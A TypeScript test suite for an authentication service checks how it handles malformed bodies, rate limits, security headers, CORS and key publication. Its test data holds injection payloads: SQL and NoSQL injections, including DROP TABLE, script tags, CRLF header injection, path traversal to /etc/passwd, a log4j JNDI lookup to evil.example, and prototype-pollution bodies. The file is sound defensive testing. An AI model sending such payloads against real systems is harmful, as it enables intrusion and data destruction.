import { createPublicKey, verify as verifySignature } from 'node:crypto';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Config, RateLimitRule } from '../../src/config/types.js';
import { exportPublicJwks } from '../../src/flows/keys/key-admin.js';
import { SECURITY_HEADERS } from '../../src/http/plugins/security-headers.js';
import { createTestApp, type TestDeps } from '../helpers/test-deps.js';
import {
  EMAIL,
  PASSWORD,
  bearer,
  expectProblem,
  postLogin,
  postRefresh,
  registerUser,
  type TokenBody,
} from './http-kit.js';

/** What a rejected request must leave untouched: every user and every live session. */
async function snapshot(deps: TestDeps): Promise<string> {
  const users = await deps.stores.users.list();
  const sessions = await Promise.all(
    users.map((user) => deps.stores.sessions.listActiveForUser(user.id, deps.clock.now())),
  );
  return JSON.stringify({ users, sessions });
}

function expectNoServerError(response: LightMyRequestResponse): void {
  expect(response.statusCode, response.body).toBeLessThan(500);
  expect(response.body).not.toMatch(/\bat .+\.(ts|js):\d+|stack|FST_ERR|Error:/);
  expect(response.headers['content-type'] ?? 'application/json').toMatch(/^application\/(problem\+)?json/);
}

const INJECTIONS: [string, string][] = [
  ['SQL tautology', "' OR '1'='1"],
  ['SQL comment', "admin'--"],
  ['SQL stacked query', "x'; DROP TABLE users; --"],
  ['SQL in an address', "a@b.c' OR 1=1 --"],
  ['NoSQL operator as text', '{"$gt":""}'],
  ['HTML script', '<script>alert(1)</script>'],
  ['CRLF header injection', 'x\r\nSet-Cookie: admin=1'],
  ['NUL byte', 'abc\u0000def'],
  ['percent-encoded NUL', 'abc%00def'],
  ['path traversal', '../../../../etc/passwd'],
  ['log4j lookup', '${jndi:ldap://evil.example/a}'],
  ['template', '{{7*7}}#{7*7}'],
  ['bidi override', 'abc\u202edef@example.com'],
  ['very long unicode', '😀'.repeat(300)],
  ['a lone surrogate', '\ud800\ud800\ud800\ud800\ud800\ud800\ud800\ud800'],
];

describe('abuse and hardening', () => {
  let app: FastifyInstance;
  let deps: TestDeps;
  let user: TokenBody;

  async function start(config: Partial<Config> = {}): Promise<void> {
    ({ app, deps } = await createTestApp({ config }));
    user = await registerUser(app);
  }

  beforeEach(async () => {
    await start();
  });
  afterEach(async () => {
    await app.close();
  });

  const postRaw = (url: string, body: string, contentType = 'application/json') =>
    app.inject({ method: 'POST', url, headers: { 'content-type': contentType }, payload: body });

  describe('request bodies', () => {
    it.each(['/auth/register', '/auth/login', '/auth/refresh'])(
      'answers malformed JSON on %s with 400, changing nothing',
      async (url) => {
        const before = await snapshot(deps);
        for (const body of ['{bad', '{"email":', '', 'null null', '\u0000', '{"email":"a@b.co",}']) {
          const response = await postRaw(url, body);
          expectProblem(response, 400, 'invalid_request');
          expectNoServerError(response);
        }
        expect(await snapshot(deps)).toBe(before);
      },
    );

    it.each([
      ['text/plain (what a cross-site form sends)', 'text/plain'],
      ['a form', 'application/x-www-form-urlencoded'],
      ['multipart', 'multipart/form-data; boundary=x'],
      ['XML', 'application/xml'],
      ['a JSON-like vendor type', 'application/vnd.api+json'],
    ])('answers %s with 415 unsupported_media_type', async (_label, contentType) => {
      const before = await snapshot(deps);
      const response = await postRaw(
        '/auth/login',
        JSON.stringify({ email: EMAIL, password: PASSWORD }),
        contentType,
      );
      expectProblem(response, 415, 'unsupported_media_type');
      expect(await snapshot(deps)).toBe(before);
    });

    it('answers a 1 MB body with 413 payload_too_large', async () => {
      const before = await snapshot(deps);
      const response = await postRaw(
        '/auth/register',
        JSON.stringify({ email: EMAIL, password: 'p'.repeat(1024 * 1024) }),
      );
      expectProblem(response, 413, 'payload_too_large');
      expect(await snapshot(deps)).toBe(before);
    });

    it('answers a body just over the configured limit with 413 and one just under it normally', async () => {
      const limit = deps.config.bodyLimitBytes;
      const padded = (size: number) => {
        const base = JSON.stringify({ email: EMAIL, password: '' });
        return JSON.stringify({ email: EMAIL, password: 'p'.repeat(size - base.length) });
      };
      expect(padded(limit)).toHaveLength(limit);
      expectProblem(await postRaw('/auth/login', padded(limit + 1)), 413, 'payload_too_large');
      expectProblem(await postRaw('/auth/login', padded(limit)), 400, 'invalid_request'); // password over the schema cap
    });

    it('refuses a deeply nested body without a stack overflow', async () => {
      const response = await postRaw('/auth/login', `${'['.repeat(5000)}${']'.repeat(5000)}`);
      expectProblem(response, 400, 'invalid_request');
    });

    it.each([
      ['email as a number', { email: 123, password: PASSWORD }],
      ['email as true', { email: true, password: PASSWORD }],
      ['email as null', { email: null, password: PASSWORD }],
      ['email as an array', { email: [EMAIL], password: PASSWORD }],
      ['email as a NoSQL operator', { email: { $gt: '' }, password: PASSWORD }],
      ['email as a $ne operator', { email: { $ne: null }, password: { $ne: null } }],
      ['password as an empty array', { email: EMAIL, password: [] }],
      ['password as a number', { email: EMAIL, password: 12345678 }],
      ['password as an object', { email: EMAIL, password: { toString: 'x' } }],
      ['password as false', { email: EMAIL, password: false }],
    ])('refuses %s with 400 and coerces nothing', async (_label, payload) => {
      const before = await snapshot(deps);
      for (const url of ['/auth/login', '/auth/register']) {
        const response = await app.inject({ method: 'POST', url, payload });
        expectProblem(response, 400, 'invalid_request');
        expect(response.json<{ detail: string }>().detail).toMatch(/^Invalid body member "(email|password)"/);
      }
      expect(await snapshot(deps)).toBe(before);
    });

    it.each([
      [
        '__proto__ with roles',
        '{"email":"mallory@example.com","password":"correct horse battery","__proto__":{"roles":["admin"]}}',
      ],
      [
        '__proto__ with admin',
        '{"email":"mallory@example.com","password":"correct horse battery","__proto__":{"admin":true}}',
      ],
      [
        'constructor.prototype',
        '{"email":"mallory@example.com","password":"correct horse battery","constructor":{"prototype":{"roles":["admin"]}}}',
      ],
      [
        'a nested __proto__',
        '{"email":"mallory@example.com","password":"correct horse battery","name":{"__proto__":{"x":1}}}',
      ],
    ])('refuses a %s payload with 4xx and pollutes nothing', async (_label, body) => {
      const before = await snapshot(deps);
      for (const url of ['/auth/register', '/auth/login']) {
        const response = await postRaw(url, body);
        expectProblem(response, 400, 'invalid_request');
      }
      expect(await snapshot(deps)).toBe(before);
      expect(({} as Record<string, unknown>).roles).toBeUndefined();
      expect(({} as Record<string, unknown>).admin).toBeUndefined();
      expect(await deps.stores.users.findByEmail('mallory@example.com')).toBeUndefined();
    });
  });

  describe('injection strings in every field never cause a 500', () => {
    const fields: [string, string, (value: string) => object, number[]][] = [
      // The e-mail rule bars only spaces and control characters, so the bidi override is accepted.
      ['register', 'email', (v) => ({ email: v, password: PASSWORD }), [201, 400]],
      ['register', 'password', (v) => ({ email: 'new@example.com', password: v }), [201, 400]],
      ['register', 'name', (v) => ({ email: 'new@example.com', password: PASSWORD, name: v }), [201, 400]],
      ['login', 'email', (v) => ({ email: v, password: PASSWORD }), [400, 401]],
      ['login', 'password', (v) => ({ email: EMAIL, password: v }), [400, 401]],
      ['refresh', 'refresh_token', (v) => ({ refresh_token: v }), [400, 401]],
      ['logout', 'scope', (v) => ({ scope: v }), [400]],
    ];

    for (const [endpoint, field, payloadFor, allowed] of fields) {
      it.each(INJECTIONS)(`${endpoint} ${field}: %s`, async (_label, value) => {
        const before = await snapshot(deps);
        const headers = endpoint === 'logout' ? bearer(user.access_token) : {};
        const response = await app.inject({
          method: 'POST',
          url: `/auth/${endpoint}`,
          headers,
          payload: payloadFor(value),
        });
        expectNoServerError(response);
        expect(allowed).toContain(response.statusCode);
        if (response.statusCode >= 400) {
          expect(await snapshot(deps)).toBe(before);
          expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
          // Problem bodies never echo what was sent.
          if (value.length >= 8) expect(response.body).not.toContain(value);
        } else {
          // Accepted as data: stored and echoed exactly as sent, never interpreted.
          const body = response.json<TokenBody>();
          if (field === 'name') expect(body.user.name).toBe(value.trim() || null);
          if (field === 'email') expect(body.user.email).toBe(value.toLowerCase());
          if (field === 'password')
            expect((await postLogin(app, 'new@example.com', value)).statusCode).toBe(200);
        }
      });
    }

    it('an injection string in the User-Agent is stored as inert text', async () => {
      const agent = "'); DROP TABLE sessions; -- <script>";
      deps.clock.advanceSeconds(1); // newest first: this session lists before the one register opened
      const response = await app.inject({
        method: 'POST',
        url: '/auth/login',
        headers: { 'user-agent': agent },
        payload: { email: EMAIL, password: PASSWORD },
      });
      expect(response.statusCode).toBe(200);
      const sessions = await app.inject({
        method: 'GET',
        url: '/auth/sessions',
        headers: bearer(response.json<TokenBody>().access_token),
      });
      expect(sessions.json<{ sessions: { user_agent: string }[] }>().sessions[0]?.user_agent).toBe(agent);
    });

    it('caps a huge User-Agent at 512 characters', async () => {
      deps.clock.advanceSeconds(1);
      const response = await app.inject({
        method: 'POST',
        url: '/auth/login',
        headers: { 'user-agent': 'u'.repeat(8000) },
        payload: { email: EMAIL, password: PASSWORD },
      });
      const sessions = await app.inject({
        method: 'GET',
        url: '/auth/sessions',
        headers: bearer(response.json<TokenBody>().access_token),
      });
      expect(sessions.json<{ sessions: { user_agent: string }[] }>().sessions[0]?.user_agent).toHaveLength(
        512,
      );
    });
  });

  describe('URLs', () => {
    it('answers an unknown route with a 404 not_found problem', async () => {
      for (const [method, url] of [
        ['GET', '/nope'],
        ['GET', '/auth/login'],
        ['DELETE', '/auth/me'],
        ['PATCH', '/api/secure'],
        ['POST', '/.well-known/jwks.json'],
      ] as const) {
        const response = await app.inject({ method, url });
        expectProblem(response, 404, 'not_found');
      }
    });

    it('answers a malformed percent-encoding with a 400 problem that does not echo the URL', async () => {
      const response = await app.inject({ method: 'GET', url: '/api/%ZZ?access_token=SECRET-TOKEN' });
      expectProblem(response, 400, 'invalid_request', { instance: '/api/%ZZ' });
      expect(response.body).not.toContain('SECRET-TOKEN');
      expect(response.body).not.toContain('FST_ERR');
      expect(response.headers).toMatchObject(SECURITY_HEADERS);
    });

    it('answers an over-long path parameter with a problem, not the framework default body', async () => {
      const response = await app.inject({
        method: 'DELETE',
        url: `/auth/sessions/${'a'.repeat(200)}`,
        headers: bearer(user.access_token),
      });
      expectProblem(response, 400, 'invalid_request', { instance: `/auth/sessions/${'a'.repeat(200)}` });
      expect(response.headers).toMatchObject(SECURITY_HEADERS);
    });
  });

  describe('rate limits', () => {
    const small: RateLimitRule = { max: 3, windowSeconds: 60 };
    const roomy: RateLimitRule = { max: 1000, windowSeconds: 60 };

    async function startWith(rateLimits: Partial<Config['rateLimits']>): Promise<void> {
      await app.close();
      const base = {
        loginPerIp: roomy,
        loginPerAccount: roomy,
        registerPerIp: roomy,
        refreshPerIp: roomy,
        recoveryPerIp: roomy,
        recoveryPerAccount: roomy,
        linkPerIp: roomy,
        mfaPerIp: roomy,
      };
      await start({
        rateLimits: { ...base, ...rateLimits },
        lockout: { threshold: 1000, baseSeconds: 30, maxSeconds: 60 },
      });
    }

    function expectRateLimited(response: LightMyRequestResponse, retryAfter: number): void {
      expectProblem(response, 429, 'rate_limited');
      expect(response.headers['retry-after']).toBe(String(retryAfter));
    }

    it('limits logins per IP, whatever the e-mail or outcome, until the window ends', async () => {
      await startWith({ loginPerIp: small });
      expect((await postLogin(app)).statusCode).toBe(200);
      expect((await postLogin(app, EMAIL, 'wrong password')).statusCode).toBe(401);
      expect((await postLogin(app, 'other@example.com')).statusCode).toBe(401);
      expectRateLimited(await postLogin(app), 60);
      deps.clock.advanceSeconds(45);
      expectRateLimited(await postLogin(app), 15);
      // Another address is not affected.
      expect((await postLogin(app, EMAIL, PASSWORD, { remoteAddress: '203.0.113.9' })).statusCode).toBe(200);
      deps.clock.advanceSeconds(15);
      expect((await postLogin(app)).statusCode).toBe(200);
    });

    it('does not verify the password once the IP is limited', async () => {
      await startWith({ loginPerIp: small });
      for (let i = 0; i < small.max; i++) await postLogin(app, EMAIL, 'wrong password');
      let verifications = 0;
      const realVerify = deps.hasher.verify.bind(deps.hasher);
      deps.hasher.verify = async (hash, password) => (verifications++, realVerify(hash, password));
      expectRateLimited(await postLogin(app), 60);
      expect(verifications).toBe(0);
    });

    it('ignores X-Forwarded-For unless trustProxy is on (no limit evasion by a spoofed header)', async () => {
      await startWith({ loginPerIp: small });
      for (let i = 0; i < small.max; i++) {
        await postLogin(app, EMAIL, PASSWORD, { headers: { 'x-forwarded-for': `198.51.100.${i}` } });
      }
      expectRateLimited(
        await postLogin(app, EMAIL, PASSWORD, { headers: { 'x-forwarded-for': '198.51.100.99' } }),
        60,
      );
    });

    it('limits logins per account across different IPs, keyed by the normalised e-mail', async () => {
      await startWith({ loginPerAccount: small });
      const ips = ['198.51.100.1', '198.51.100.2', '198.51.100.3', '198.51.100.4'];
      expect((await postLogin(app, EMAIL, 'wrong password', { remoteAddress: ips[0]! })).statusCode).toBe(
        401,
      );
      expect(
        (await postLogin(app, 'ALICE@example.com', 'wrong password', { remoteAddress: ips[1]! })).statusCode,
      ).toBe(401);
      expect(
        (await postLogin(app, ` ${EMAIL} `, 'wrong password', { remoteAddress: ips[2]! })).statusCode,
      ).toBe(401);
      expectRateLimited(await postLogin(app, EMAIL, PASSWORD, { remoteAddress: ips[3]! }), 60);
      // Another account from the same addresses is fine.
      await registerUser(app, 'bob@example.com', PASSWORD, { remoteAddress: ips[3]! });
      expect((await postLogin(app, 'bob@example.com', PASSWORD, { remoteAddress: ips[3]! })).statusCode).toBe(
        200,
      );
    });

    it('limits an unknown e-mail the same way as a known one (no enumeration through the limiter)', async () => {
      await startWith({ loginPerAccount: small });
      for (let i = 0; i < small.max; i++)
        await postLogin(app, 'nobody@example.com', 'x', { remoteAddress: `198.51.100.${i}` });
      for (let i = 0; i < small.max; i++)
        await postLogin(app, EMAIL, 'x', { remoteAddress: `198.51.100.${i}` });
      const unknown = await postLogin(app, 'nobody@example.com', 'x', { remoteAddress: '198.51.100.50' });
      const known = await postLogin(app, EMAIL, 'x', { remoteAddress: '198.51.100.51' });
      expectRateLimited(unknown, 60);
      expect(unknown.body).toBe(known.body);
    });

    it('limits registrations per IP', async () => {
      await startWith({ registerPerIp: { max: 2, windowSeconds: 3600 } });
      // start() registered once already.
      await registerUser(app, 'second@example.com');
      const before = await snapshot(deps);
      const third = await app.inject({
        method: 'POST',
        url: '/auth/register',
        payload: { email: 'third@example.com', password: PASSWORD },
      });
      expectRateLimited(third, 3600);
      expect(await snapshot(deps)).toBe(before);
      await registerUser(app, 'third@example.com', PASSWORD, { remoteAddress: '203.0.113.7' });
    });

    it('limits refreshes per IP without consuming the refresh token', async () => {
      await startWith({ refreshPerIp: small });
      let token = user.refresh_token;
      for (let i = 0; i < small.max; i++) {
        const response = await postRefresh(app, token);
        expect(response.statusCode).toBe(200);
        token = response.json<TokenBody>().refresh_token;
      }
      expectRateLimited(await postRefresh(app, token), 60);
      deps.clock.advanceSeconds(60);
      expect((await postRefresh(app, token)).statusCode).toBe(200);
    });

    it('counts invalid refresh tokens too (no free guessing)', async () => {
      await startWith({ refreshPerIp: small });
      for (let i = 0; i < small.max; i++)
        expect((await postRefresh(app, `${'A'.repeat(22)}.${'B'.repeat(43)}`)).statusCode).toBe(401);
      expectRateLimited(await postRefresh(app, user.refresh_token), 60);
    });
  });

  describe('security headers', () => {
    it.each<[string, () => Promise<LightMyRequestResponse>]>([
      ['a success', () => app.inject({ method: 'GET', url: '/healthz' })],
      ['a token response', () => postLogin(app)],
      ['a 401', () => app.inject({ method: 'GET', url: '/api/secure' })],
      ['a 404', () => app.inject({ method: 'GET', url: '/nope' })],
      [
        'a 400 from the schema',
        () => app.inject({ method: 'POST', url: '/auth/login', payload: { email: 1 } }),
      ],
      [
        'a 400 for a token in the query string',
        () => app.inject({ method: 'GET', url: '/api/secure?access_token=x' }),
      ],
    ])('are present on %s', async (_label, send) => {
      const response = await send();
      expect(response.headers).toMatchObject(SECURITY_HEADERS);
      expect(response.headers['content-security-policy']).toContain("default-src 'none'");
      expect(response.headers['x-frame-options']).toBe('DENY');
      expect(response.headers['x-powered-by']).toBeUndefined();
      expect(response.headers.server).toBeUndefined();
    });
  });

  describe('CORS', () => {
    it('is closed by default: no Access-Control-Allow-Origin for a foreign Origin, and no preflight', async () => {
      const simple = await app.inject({
        method: 'GET',
        url: '/healthz',
        headers: { origin: 'https://evil.example' },
      });
      expect(simple.statusCode).toBe(200);
      expect(simple.headers['access-control-allow-origin']).toBeUndefined();
      expect(simple.headers['access-control-allow-credentials']).toBeUndefined();
      const preflight = await app.inject({
        method: 'OPTIONS',
        url: '/auth/login',
        headers: { origin: 'https://evil.example', 'access-control-request-method': 'POST' },
      });
      expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
      expect(preflight.headers['access-control-allow-methods']).toBeUndefined();
    });

    it('is open, with credentials, for a configured origin only', async () => {
      await app.close();
      await start({ corsOrigins: ['https://app.example'] });
      const allowed = await postLogin(app, EMAIL, PASSWORD, { headers: { origin: 'https://app.example' } });
      expect(allowed.headers['access-control-allow-origin']).toBe('https://app.example');
      expect(allowed.headers['access-control-allow-credentials']).toBe('true');
      expect(allowed.headers['access-control-expose-headers']).toContain('www-authenticate');
      expect(String(allowed.headers.vary)).toMatch(/origin/i);

      const foreign = await postLogin(app, EMAIL, PASSWORD, { headers: { origin: 'https://evil.example' } });
      expect(foreign.headers['access-control-allow-origin']).toBeUndefined();
      const lookalike = await postLogin(app, EMAIL, PASSWORD, {
        headers: { origin: 'https://app.example.evil.example' },
      });
      expect(lookalike.headers['access-control-allow-origin']).toBeUndefined();

      const preflight = await app.inject({
        method: 'OPTIONS',
        url: '/auth/login',
        headers: {
          origin: 'https://app.example',
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'content-type, x-csrf-token',
        },
      });
      expect(preflight.statusCode).toBe(204);
      expect(preflight.headers['access-control-allow-origin']).toBe('https://app.example');
      expect(preflight.headers['access-control-allow-headers']).toMatch(/x-csrf-token/);
      expect(preflight.headers['access-control-max-age']).toBe('600');
    });

    it('lets a configured origin read error responses (challenge and Retry-After exposed)', async () => {
      await app.close();
      await start({ corsOrigins: ['https://app.example'] });
      const response = await app.inject({
        method: 'GET',
        url: '/api/secure',
        headers: { origin: 'https://app.example' },
      });
      expect(response.statusCode).toBe(401);
      expect(response.headers['access-control-allow-origin']).toBe('https://app.example');
      const queryToken = await app.inject({
        method: 'GET',
        url: '/api/secure?access_token=x',
        headers: { origin: 'https://app.example' },
      });
      expectProblem(queryToken, 400, 'invalid_request', { bearerError: 'invalid_request' });
      expect(queryToken.headers['access-control-allow-origin']).toBe('https://app.example');
    });
  });

  describe('discovery and health', () => {
    it('GET /healthz answers 200', async () => {
      const response = await app.inject({ method: 'GET', url: '/healthz' });
      expect(response.statusCode).toBe(200);
      expect(response.json()).toEqual({ status: 'ok' });
    });

    it('GET /readyz answers 200 while the stores answer and 503 once they do not', async () => {
      const ready = await app.inject({ method: 'GET', url: '/readyz' });
      expect(ready.statusCode).toBe(200);
      expect(ready.json()).toEqual({ status: 'ready' });
      expect(ready.headers['cache-control']).toBe('no-store');
      await deps.stores.close();
      const down = await app.inject({ method: 'GET', url: '/readyz' });
      expect(down.statusCode).toBe(503);
      expect(down.json()).toEqual({ status: 'unavailable' });
    });

    it('GET /readyz answers 503 (not 500) when the store ping throws', async () => {
      deps.stores.ping = async () => {
        throw new Error('connection refused');
      };
      const response = await app.inject({ method: 'GET', url: '/readyz' });
      expect(response.statusCode).toBe(503);
      expect(response.body).not.toContain('connection refused');
    });

    it('GET /.well-known/jwks.json publishes the signing key’s public JWK, cacheable', async () => {
      const response = await app.inject({ method: 'GET', url: '/.well-known/jwks.json' });
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toMatch(/^application\/jwk-set\+json/);
      expect(response.headers['cache-control']).toBe('public, max-age=300');
      const { keys } = response.json<{ keys: Record<string, string>[] }>();
      expect(keys).toHaveLength(1);
      const [jwk] = keys;
      expect(jwk).toMatchObject({
        kty: 'EC',
        crv: 'P-256',
        alg: 'ES256',
        use: 'sig',
        kid: deps.keys.signingKey.kid,
      });
      for (const privateMember of ['d', 'p', 'q', 'dp', 'dq', 'qi', 'k'])
        expect(jwk).not.toHaveProperty(privateMember);

      // The published key verifies the tokens the server issues.
      const [header, payload, signature] = user.access_token.split('.');
      const ok = verifySignature(
        'sha256',
        Buffer.from(`${header}.${payload}`),
        { key: createPublicKey({ key: jwk!, format: 'jwk' }), dsaEncoding: 'ieee-p1363' },
        Buffer.from(signature!, 'base64url'),
      );
      expect(ok).toBe(true);
      expect(JSON.parse(Buffer.from(header!, 'base64url').toString()).kid).toBe(jwk!.kid);
    });

    it('GET /.well-known/jwks.json publishes what `tessera keys export-public` prints', async () => {
      const response = await app.inject({ method: 'GET', url: '/.well-known/jwks.json' });
      expect(response.statusCode).toBe(200);
      expect(response.body).toBe(JSON.stringify(exportPublicJwks(deps)));
    });
  });
});
